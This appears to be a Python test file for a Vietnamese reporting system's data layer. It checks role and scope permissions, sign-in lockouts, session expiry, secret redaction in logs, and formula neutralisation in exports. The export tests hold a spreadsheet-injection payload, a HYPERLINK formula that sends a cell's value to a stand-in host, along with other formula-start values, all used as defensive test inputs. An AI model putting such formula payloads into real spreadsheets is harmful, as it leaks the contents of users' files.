"""Security (issue 7, item 4), the data layer's side, on SQLite and PostgreSQL: who may call which
command (the table below, every role × a unit inside and outside the account's scope, and nothing
written when refused), sign-in throttling per account, per address and for names that do not exist,
sessions that expire, formulas neutralised in every export, and no password or database password
in a message or a log. The dashboard's side (every page × every role × a unit outside the scope,
user text never rendered, the dashboard's downloads) is ``tests/dashboard/test_security_pages.py``.
"""

from __future__ import annotations

import csv
import inspect
import io
import logging
import re
import shutil
import subprocess
import sys
import traceback
import uuid
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from datetime import UTC, date, datetime, timedelta
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from sqlalchemy import Engine, text
from sqlalchemy.engine import make_url
from typer.testing import CliRunner

from etl import accounts as acc
from etl import cli
from etl import submissions as sub
from etl.db import database_errors, make_engine
from etl.errors import AuthError, DatabaseError, PermissionDenied
from etl.load import Source, load
from etl.models import utcnow
from etl.settings import get_settings
from etl.units import NEW2025, PRE2025, unit_by_code
from tests.conftest import BACKENDS, POSTGRES_URL, _pg_create, _pg_drop, _pg_url

ROOT = Path(__file__).resolve().parents[2]
PERIOD = "2026S2"

# ------------------------------------------------------------------------------------------------
# The permission table: what must hold, as data
# ------------------------------------------------------------------------------------------------

ROLES = ("admin", "reviewer", "official", "viewer", "disabled official", "disabled reviewer", "signed out")
PLACES = ("inside", "outside")
# The places each account's scope holds. "inside": Xã Hòn Nghệ (2025 catalog), the official's
# commune and a successor of the reviewer's district (Huyện Kiên Lương, pre-2025 code 902);
# "outside": a commune of another province. An admin's and a viewer's scope is everywhere.
SCOPE = {
    "admin": {"inside", "outside"},
    "reviewer": {"inside"},
    "official": {"inside"},
    "viewer": {"inside", "outside"},
    "disabled official": {"inside"},
    "disabled reviewer": {"inside"},
    "signed out": set(),
}
# Every command of the data layer that takes the account: the roles it allows and whether it checks
# the account's scope. A disabled account and nobody signed in are allowed nothing. 11 commands ×
# 7 roles × 2 places = 154 cases per backend.
COMMANDS: dict[str, tuple[frozenset[str], bool]] = {
    "submissions.load_form": (frozenset({"official", "reviewer", "admin"}), True),
    "submissions.entry_units": (frozenset({"official"}), True),
    "submissions.save_draft": (frozenset({"official"}), True),
    "submissions.upload_to_draft": (frozenset({"official"}), True),
    "submissions.submit": (frozenset({"official"}), True),
    "submissions.review_board": (frozenset({"reviewer", "admin"}), True),
    "submissions.approve": (frozenset({"reviewer", "admin"}), True),
    "submissions.return_submission": (frozenset({"reviewer", "admin"}), True),
    "submissions.reopen": (frozenset({"reviewer", "admin"}), True),
    "accounts.can_enter": (frozenset({"official"}), True),
    "accounts.can_review": (frozenset({"reviewer", "admin"}), True),
}
WRITES = {
    "submissions.save_draft",
    "submissions.upload_to_draft",
    "submissions.submit",
    "submissions.approve",
    "submissions.return_submission",
    "submissions.reopen",
}
# Commands that take no account: their caller is the check — a page, after auth.gate (the page's
# roles) and auth.for_write (right before a write), on a unit it has checked; or the operator at the
# ``qcdc`` command. The pages are tested in tests/dashboard/test_security_pages.py.
CALLER_CHECKED = {
    "submissions.value_history": "lich_su: any signed-in account, on a unit of scope_unit_ids",
    "submissions.submission_events": "duyet_bao_cao: reviewer, of the submission load_form opened",
    "submissions.commune_template": "nhap_so_lieu: official, of the form load_form opened",
    "submissions.check_form": "nhap_so_lieu, duyet_bao_cao: of the form load_form opened",
    "checks.data_warnings": "duyet_bao_cao: reviewer, of the unit load_form opened",
    "submissions.open_period": "quan_tri: for_write(admin); qcdc periods open",
    "submissions.close_period": "quan_tri: for_write(admin); qcdc periods close",
    "submissions.set_deadline": "quan_tri: for_write(admin); qcdc periods deadline",
    "accounts.list_users": "quan_tri: gate(admin); qcdc users list",
    "accounts.create_user": "quan_tri: for_write(admin); qcdc users add",
    "accounts.set_units": "quan_tri: for_write(admin)",
    "accounts.set_password": "quan_tri: for_write(admin); qcdc users set-password",
    "accounts.set_active": "quan_tri: for_write(admin); qcdc users disable / enable",
}
# What the pages call that reads nothing private: the periods and their deadlines, a unit's list of
# indicators (the catalog), the account's own scope.
NOT_PRIVATE = {"submissions.open_periods", "submissions.form_indicators", "accounts.scope_unit_ids"}

# Known gaps, reported rather than fixed here (etl/submissions.py is another engineer's file): the
# case fails today; the marker makes the fix visible (strict).
KNOWN_GAPS: dict[tuple[str, str, str], str] = {}  # (command, role, place) → why it fails, as an xfail


def allowed(command: str, role: str, place: str) -> bool:
    roles, scoped = COMMANDS[command]
    return role in roles and (not scoped or place in SCOPE[role])


GOOD = {"DLG_HELD": "2", "DLG_OPINIONS": "15", "DLG_ANSWERED": "12", "CMP_CARRY": "0", "CMP_NEW": "5",
        "CMP_COMPETENT": "4", "CMP_RESOLVED": "3"}  # fmt: skip
# The status a command works on (set before each case, so that every case finds it)
NEEDS = {
    "submissions.save_draft": "draft",
    "submissions.upload_to_draft": "draft",
    "submissions.submit": "draft",
    "submissions.approve": "submitted",
    "submissions.return_submission": "submitted",
    "submissions.reopen": "approved",
}
TABLES = (
    "submission",
    "draft_value",
    "submission_event",
    "data_value",
    "value_audit",
    "import_batch",
    "user_account",
    "user_scope",
    "reporting_window",
)


# ------------------------------------------------------------------------------------------------
# One database per backend for the module (a fresh one per case would take minutes)
# ------------------------------------------------------------------------------------------------


@dataclass
class World:
    url: str
    engine: Engine
    units: dict[str, int]  # place → unit id
    accounts: dict[str, acc.Account | None]
    templates: dict[str, bytes]  # place → the commune's Excel template


@pytest.fixture(scope="module", params=BACKENDS)
def world_url(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    """A copy of the reference database (as ``db_url`` makes), kept for the module."""
    if request.param == "sqlite":
        target = tmp_path_factory.mktemp("security") / "qcdc.sqlite3"
        shutil.copyfile(request.getfixturevalue("sqlite_template"), target)
        yield f"sqlite:///{target}"
        return
    name = f"qcdc_sec_{uuid.uuid4().hex[:10]}"
    _pg_create(name, template=request.getfixturevalue("postgres_template"))
    try:
        yield _pg_url(name)
    finally:
        _pg_drop(name)


@pytest.fixture(scope="module")
def world(world_url: str) -> Iterator[World]:
    """The demo accounts, a disabled official and a disabled reviewer, 2026S2 open, and a draft of
    both units (GOOD) saved by a helper account whose scope holds both."""
    engine = make_engine(world_url)
    with engine.begin() as connection:
        acc.ensure_demo_accounts(connection)
        sub.open_period(connection, PERIOD, deadline=date(2026, 12, 20), by="test")
        inside = unit_by_code(connection, catalog=NEW2025, code="30814").id
        province = connection.execute(text("SELECT province_code FROM unit WHERE id = :i"), {"i": inside}).scalar_one()
        outside = connection.execute(
            text("SELECT id FROM unit WHERE catalog = :c AND level = 3 AND province_code <> :p ORDER BY code LIMIT 1"),
            {"c": NEW2025, "p": province},
        ).scalar_one()
        district = unit_by_code(connection, catalog=PRE2025, code="902").id
        acc.create_user(connection, username="tat.xa", password="tat-xa-1", role="official", unit_ids=[inside])
        acc.create_user(connection, username="tat.thuky", password="tat-thuky-1", role="reviewer", unit_ids=[district])
        for name in ("tat.xa", "tat.thuky"):
            acc.set_active(connection, name, False)
        helper = acc.create_user(
            connection, username="chuan.bi", password="chuan-bi-1", role="official", unit_ids=[inside, outside]
        )
        accounts: dict[str, acc.Account | None] = {
            role: acc.find_account(connection, name)
            for role, name in (
                ("admin", "admin"),
                ("reviewer", "thuky"),
                ("official", "xa.honnghe"),
                ("viewer", "lanhdao"),
                ("disabled official", "tat.xa"),
                ("disabled reviewer", "tat.thuky"),
            )
        }
    accounts["signed out"] = None
    units = {"inside": inside, "outside": outside}
    for unit in units.values():
        sub.save_draft(engine, helper, unit, PERIOD, GOOD, {}, expected_version=0)
    with engine.connect() as connection:
        templates = {place: sub.commune_template(connection, unit, PERIOD) for place, unit in units.items()}
    yield World(world_url, engine, units, accounts, templates)
    engine.dispose()


@pytest.fixture
def configure(monkeypatch: pytest.MonkeyPatch) -> Iterator[Callable[..., None]]:
    """Set ``QCDC_…`` variables for the test (the settings are read again)."""

    def set_values(**values: str) -> None:
        for name, value in values.items():
            monkeypatch.setenv(name, value)
        get_settings.cache_clear()

    yield set_values
    get_settings.cache_clear()


def snapshot(engine: Engine) -> tuple[dict[str, int], list[tuple]]:
    """The row count of every table a command could write, and each submission's state."""
    with engine.connect() as connection:
        counts = {t: connection.execute(text(f"SELECT COUNT(*) FROM {t}")).scalar_one() for t in TABLES}
        rows = connection.execute(
            text("SELECT id, status, version, comment, reviewed_by FROM submission ORDER BY id")
        ).all()
    return counts, [tuple(r) for r in rows]


def arrange(world: World, command: str, place: str) -> tuple[int, int]:
    """Put the unit's submission in the status the command works on; its id and version."""
    unit = world.units[place]
    with world.engine.begin() as connection:
        if command in NEEDS:
            connection.execute(
                text("UPDATE submission SET status = :s WHERE unit_id = :u AND period_code = :p"),
                {"s": NEEDS[command], "u": unit, "p": PERIOD},
            )
        submission_id, version = connection.execute(
            text("SELECT id, version FROM submission WHERE unit_id = :u AND period_code = :p"),
            {"u": unit, "p": PERIOD},
        ).one()
    return submission_id, version


def run(world: World, command: str, account: Any, place: str, submission_id: int, version: int) -> bool:
    """Call the command as ``account`` on the unit at ``place``: True when it did it, False when it
    refused without raising (a predicate that says no, a list without the unit)."""
    engine, unit = world.engine, world.units[place]
    name = command.split(".", 1)[1]
    if name in {"load_form", "entry_units", "review_board", "can_enter", "can_review"}:
        with engine.connect() as connection:
            if name == "load_form":
                return sub.load_form(connection, account, unit, PERIOD).unit_id == unit
            if name == "entry_units":
                return unit in set(sub.entry_units(connection, account, PERIOD)["unit_id"])
            if name == "review_board":
                return unit in set(sub.review_board(connection, account, PERIOD)["unit_id"])
            return bool(getattr(acc, name)(connection, account, unit))
    if name == "save_draft":
        sub.save_draft(engine, account, unit, PERIOD, GOOD, {}, expected_version=version)
    elif name == "upload_to_draft":
        _, problems = sub.upload_to_draft(
            engine, account, unit, PERIOD, "bieu-mau.xlsx", world.templates[place], expected_version=version
        )
        assert not [p for p in problems if p.is_error], problems
    elif name == "submit":
        sub.submit(engine, account, unit, PERIOD, expected_version=version)
    elif name == "approve":
        sub.approve(engine, account, submission_id, expected_version=version)
    elif name == "return_submission":
        sub.return_submission(
            engine, account, submission_id, comment="Xem lại", fields=["DLG_HELD"], expected_version=version
        )
    elif name == "reopen":
        sub.reopen(engine, account, submission_id, reason="Sai số liệu")
    else:
        raise AssertionError(f"no way to call {command}")
    return True


# ------------------------------------------------------------------------------------------------
# Every command × every role × inside and outside the scope
# ------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("place", PLACES)
@pytest.mark.parametrize("role", ROLES)
@pytest.mark.parametrize("command", list(COMMANDS))
def test_each_command_for_each_role_inside_and_outside_the_scope(world, request, command, role, place):
    if (command, role, place) in KNOWN_GAPS:
        request.applymarker(pytest.mark.xfail(strict=True, reason=KNOWN_GAPS[(command, role, place)]))
    submission_id, version = arrange(world, command, place)
    before = snapshot(world.engine)
    try:
        done = run(world, command, world.accounts[role], place, submission_id, version)
    except PermissionDenied:
        done = False
    assert done == allowed(command, role, place)
    after = snapshot(world.engine)
    if not done or command not in WRITES:
        assert after == before, "a refused command (or a read) writes nothing"
    else:
        assert after != before, "an allowed write is seen (the refusals above are not vacuous)"


def test_the_table_covers_every_command_the_pages_call():
    """Every call of the pages into etl.submissions, etl.accounts and etl.checks is in the table."""
    called: set[str] = set()
    for page in (ROOT / "dashboard" / "pages").glob("*.py"):
        source = page.read_text(encoding="utf-8")
        called |= {f"{m}.{f}" for m, f in re.findall(r"\b(submissions|accounts|checks)\.([a-z_]+)\(", source)}
        for names in re.findall(r"from etl\.accounts import ([^\n]+)", source):
            called |= {f"accounts.{n.strip()}" for n in names.split(",") if n.strip()[:1].islower()}
    classified = set(COMMANDS) | set(CALLER_CHECKED) | NOT_PRIVATE
    assert called - classified == set()
    assert len(called) >= 25  # the pattern still finds the calls


def test_the_table_covers_every_public_function_of_submissions_and_accounts():
    """A new function of etl.submissions or etl.accounts that takes an account must be put in the
    table; one that takes none must say who checks for it."""
    helpers = {  # building blocks and the checks themselves
        "accounts.get_account", "accounts.find_account", "accounts.normalise_username", "accounts.hash_password",
        "accounts.authenticate", "accounts.sign_in", "accounts.session_expired", "accounts.require",
        "accounts.scope_units_sql", "accounts.ensure_demo_accounts", "accounts.has_demo_accounts",
    }  # fmt: skip
    for short, module in (("submissions", sub), ("accounts", acc)):
        for name, function in inspect.getmembers(module, inspect.isfunction):
            if name.startswith("_") or function.__module__ != module.__name__:
                continue
            qualified = f"{short}.{name}"
            takes_account = "account" in inspect.signature(function).parameters
            if qualified in COMMANDS:
                assert takes_account, qualified
            elif qualified in CALLER_CHECKED:
                assert not takes_account, f"{qualified} now takes the account: put it in COMMANDS"
            else:
                assert qualified in NOT_PRIVATE | helpers, f"{qualified} is in no list of the security table"


# ------------------------------------------------------------------------------------------------
# Sign-in throttling
# ------------------------------------------------------------------------------------------------

PAUSE = "Đăng nhập sai quá nhiều lần; hãy thử lại sau 15 phút."
WRONG = "Sai tên đăng nhập hoặc mật khẩu."


def later(monkeypatch: pytest.MonkeyPatch, minutes: float) -> None:
    """The clock of etl.accounts, ``minutes`` from now."""
    moment = utcnow() + timedelta(minutes=minutes)
    monkeypatch.setattr(acc, "utcnow", lambda: moment)


def refusal(engine: Engine, username: str, password: str, address: str) -> str:
    with pytest.raises(AuthError) as refused:
        acc.sign_in(engine, username, password, address=address)
    return str(refused.value)


def test_an_account_locks_after_its_failures_and_unlocks_after_the_lockout(world, configure, monkeypatch):
    configure(QCDC_LOGIN_MAX_FAILURES="3", QCDC_LOGIN_LOCKOUT_MINUTES="15")
    engine = world.engine
    with engine.begin() as connection:
        acc.create_user(connection, username="khoa.thu", password="dung-mat-khau", role="viewer")
    for n in range(3):  # from three addresses: the count is the account's
        assert refusal(engine, "khoa.thu", "sai-mat-khau", f"192.0.2.{n}") == WRONG
    assert refusal(engine, "khoa.thu", "dung-mat-khau", "192.0.2.50") == PAUSE, "even with the right password"
    later(monkeypatch, 14)
    assert refusal(engine, "khoa.thu", "dung-mat-khau", "192.0.2.50") == PAUSE
    later(monkeypatch, 16)
    assert acc.sign_in(engine, "khoa.thu", "dung-mat-khau", address="192.0.2.50").username == "khoa.thu"
    with engine.connect() as connection:
        row = connection.execute(
            text("SELECT failed_logins, locked_until FROM user_account WHERE username = 'khoa.thu'")
        ).one()
    assert tuple(row) == (0, None), "a sign-in clears the count"


def test_many_names_from_one_address_pause_that_address_for_the_lockout(world, configure, monkeypatch):
    configure(QCDC_LOGIN_MAX_FAILURES="2", QCDC_LOGIN_LOCKOUT_MINUTES="15")  # 2 × 4 = 8 failures per address
    engine, address = world.engine, "198.51.100.7"
    for n in range(8):  # eight names, one failure each: no name is paused, the address is
        assert refusal(engine, f"doan.{n}", "doan-bua", address) == WRONG
    assert refusal(engine, "lanhdao", "lanhdao", address) == PAUSE, "a real account, the right password"
    assert acc.sign_in(engine, "lanhdao", "lanhdao", address="198.51.100.8").username == "lanhdao"
    later(monkeypatch, 16)
    assert acc.sign_in(engine, "lanhdao", "lanhdao", address=address).username == "lanhdao"


def test_a_name_without_an_account_is_paused_like_one_with_an_account(world, configure):
    configure(QCDC_LOGIN_MAX_FAILURES="2", QCDC_LOGIN_LOCKOUT_MINUTES="15")
    engine = world.engine
    with engine.begin() as connection:
        acc.create_user(connection, username="co.that", password="mat-khau-that", role="viewer")
    said = {}
    for name in ("co.that", "khong.co.that"):
        said[name] = [refusal(engine, name, "doan-bua", f"203.0.113.{n}") for n in range(3)]
    assert said["co.that"] == said["khong.co.that"] == [WRONG, WRONG, PAUSE], "the answers do not tell which exists"


def test_a_name_without_an_account_costs_the_same_password_check(world, monkeypatch):
    real = acc._hasher
    checked: list[str] = []

    class Spy:
        def verify(self, password_hash: str, password: str) -> bool:
            checked.append(password_hash[:9])
            return real.verify(password_hash, password)

        def hash(self, password: str) -> str:
            return real.hash(password)

    monkeypatch.setattr(acc, "_hasher", Spy())
    for name in ("lanhdao", "khong.ai.ca"):
        refusal(world.engine, name, "doan-bua", "203.0.113.99")
    assert checked == ["$argon2id", "$argon2id"], "one argon2 check each: the time taken does not tell"


# ------------------------------------------------------------------------------------------------
# Sessions expire
# ------------------------------------------------------------------------------------------------


def test_a_session_expires_after_the_configured_minutes(configure):
    configure(QCDC_SESSION_MINUTES="30")
    start = datetime(2026, 11, 29, 8, 0, tzinfo=UTC)
    assert not acc.session_expired(start, start + timedelta(minutes=30))
    assert acc.session_expired(start, start + timedelta(minutes=30, seconds=1))
    naive = start.replace(tzinfo=None)  # as SQLite gives a stored time back: taken as UTC
    assert not acc.session_expired(naive, start + timedelta(minutes=29))
    assert acc.session_expired(naive, start + timedelta(minutes=31))
    assert not acc.session_expired(utcnow()) and acc.session_expired(utcnow() - timedelta(minutes=31))


# ------------------------------------------------------------------------------------------------
# Exports: a cell a spreadsheet would run is neutralised on every path
# ------------------------------------------------------------------------------------------------

FORMULA_NAME = '=HYPERLINK("http://example.invalid/?x="&A1,"Xã Sơn Hải")'


def test_a_unit_name_that_starts_a_formula_is_neutralised_by_qcdc_export(world, configure, tmp_path):
    with world.engine.connect() as connection:
        unit = unit_by_code(connection, catalog=NEW2025, code="30811")  # Xã Sơn Hải
    assert unit is not None
    source = f"unit_code,unit_name,period,indicator,value\n30811,{unit.name},2026S1,DLG_HELD,4\n".encode()
    assert load(world.engine, [Source(name="son-hai.csv", data=source)], user="test", today=date(2026, 11, 29)).ok
    with world.engine.begin() as connection:
        connection.execute(text("UPDATE unit SET name = :n WHERE id = :i"), {"n": FORMULA_NAME, "i": unit.id})
    configure(QCDC_DATABASE_URL=world.url)
    runner = CliRunner()
    shown = runner.invoke(cli.app, ["export", "--unit", "30811", "--period", "2026S1"])
    assert shown.exit_code == 0, shown.output
    [row] = list(csv.DictReader(io.StringIO(shown.stdout)))
    assert row["unit_name"] == "'" + FORMULA_NAME
    target = tmp_path / "xuat.xlsx"
    written = runner.invoke(
        cli.app,
        ["export", "--unit", "30811", "--period", "2026S1", "--format", "xlsx", "-o", str(target)],
    )
    assert written.exit_code == 0, written.output
    cells = [c.value for row in openpyxl.load_workbook(target).active.iter_rows() for c in row]
    assert "'" + FORMULA_NAME in cells and FORMULA_NAME not in cells


def test_draft_values_that_start_a_formula_are_neutralised_in_the_commune_template(world):
    with world.engine.begin() as connection:
        commune = connection.execute(
            text("SELECT id FROM unit WHERE catalog = :c AND level = 3 ORDER BY code DESC LIMIT 1"), {"c": NEW2025}
        ).scalar_one()
        official = acc.create_user(
            connection, username="xa.mau", password="xa-mau-1", role="official", unit_ids=[commune]
        )
    typed = {"DLG_HELD": "=1+1", "DLG_OPINIONS": "@SUM(A1:A9)", "DLG_ANSWERED": "-2+3"}  # a draft keeps any text
    sub.save_draft(world.engine, official, commune, PERIOD, typed, {}, expected_version=0)
    with world.engine.connect() as connection:
        book = openpyxl.load_workbook(io.BytesIO(sub.commune_template(connection, commune, PERIOD)))
    cells = [c.value for sheet in book for row in sheet.iter_rows() for c in row if isinstance(c.value, str)]
    for dangerous in ("=1+1", "@SUM(A1:A9)", "-2+3"):
        assert "'" + dangerous in cells, dangerous
        assert dangerous not in cells, dangerous
    assert not [c for c in cells if c[:1] in "=+-@\t\r"], "no text cell starts a formula"


# ------------------------------------------------------------------------------------------------
# Secrets: no password in a message or a log
# ------------------------------------------------------------------------------------------------

SECRET = "S3cr3t-pw"


@pytest.fixture(params=["nobody listens", "the server refuses"])
def bad_url(request: pytest.FixtureRequest, configure) -> str:
    """``QCDC_DATABASE_URL`` with a password, to a port where nobody listens or to a real server
    without that role and database."""
    if request.param == "nobody listens":
        host, port = "127.0.0.1", 1
    else:
        if not POSTGRES_URL:
            pytest.skip("QCDC_TEST_POSTGRES_URL is not set")
        server = make_url(POSTGRES_URL)
        host, port = server.host or "127.0.0.1", server.port or 5432
    url = f"postgresql+psycopg://qcdc:{SECRET}@{host}:{port}/nosuchdb"
    configure(QCDC_DATABASE_URL=url)
    return url


def debug_logging(caplog: pytest.LogCaptureFixture) -> None:
    """Everything logged, down to SQLAlchemy's statements with their parameters."""
    caplog.set_level(logging.DEBUG)
    caplog.set_level(logging.DEBUG, logger="sqlalchemy")


def qcdc(monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture, *args: str) -> tuple[object, str]:
    """Run the ``qcdc`` entry point (its handler of database errors included): exit code, output."""
    monkeypatch.setattr(sys, "argv", ["qcdc", *args])
    with pytest.raises(SystemExit) as ended:
        cli.main()
    said = capsys.readouterr()
    return ended.value.code, said.out + said.err


def test_no_command_shows_the_database_password(bad_url, monkeypatch, capsys, caplog, tmp_path):
    debug_logging(caplog)
    monkeypatch.setattr(subprocess, "run", lambda *a, **k: pytest.fail("streamlit must not start"))
    data = tmp_path / "so-lieu.csv"
    data.write_text("unit_code,unit_name,period,indicator,value\n30814,Xã Hòn Nghệ,2026S1,DLG_HELD,1\n", "utf-8")
    for args in (["init"], ["load", str(data)], ["serve"], ["export"], ["users", "list"], ["periods", "list"]):
        code, output = qcdc(monkeypatch, capsys, *args)
        assert code == 1, (args, output)
        assert SECRET not in output, args
        assert "qcdc:***@" in output or "127.0.0.1" in output, (args, output)
    assert SECRET not in caplog.text


def test_database_errors_and_their_cause_hide_the_password(bad_url, caplog):
    debug_logging(caplog)
    engine = make_engine(bad_url)
    try:
        with pytest.raises(DatabaseError) as caught, database_errors(engine), engine.connect() as connection:
            connection.execute(text("SELECT 1"))
    finally:
        engine.dispose()
    assert "qcdc:***@" in str(caught.value)
    whole = "".join(traceback.format_exception(caught.value))  # with the driver's error it came from
    assert SECRET not in whole
    assert SECRET not in caplog.text


def test_passwords_never_reach_a_message_a_log_or_the_database(world, caplog):
    debug_logging(caplog)
    first, wrong, new = "Mat-Khau-Dau-31", "Sai-Mat-Khau-42", "Mat-Khau-Moi-77"
    with world.engine.begin() as connection:
        acc.create_user(connection, username="nhat.ky", password=first, role="viewer")
    refused = refusal(world.engine, "nhat.ky", wrong, "192.0.2.77")
    assert wrong not in refused
    with world.engine.begin() as connection:
        acc.set_password(connection, "nhat.ky", new)
    assert acc.sign_in(world.engine, "nhat.ky", new).username == "nhat.ky"
    assert "login_failure" in caplog.text, "the statements were logged, with their parameters"
    with world.engine.connect() as connection:
        stored = [
            str(row)
            for table in ("user_account", "login_failure")
            for row in connection.execute(text(f"SELECT * FROM {table}")).all()
        ]
    for password in (first, wrong, new):
        assert password not in caplog.text
        assert not [row for row in stored if password in row]
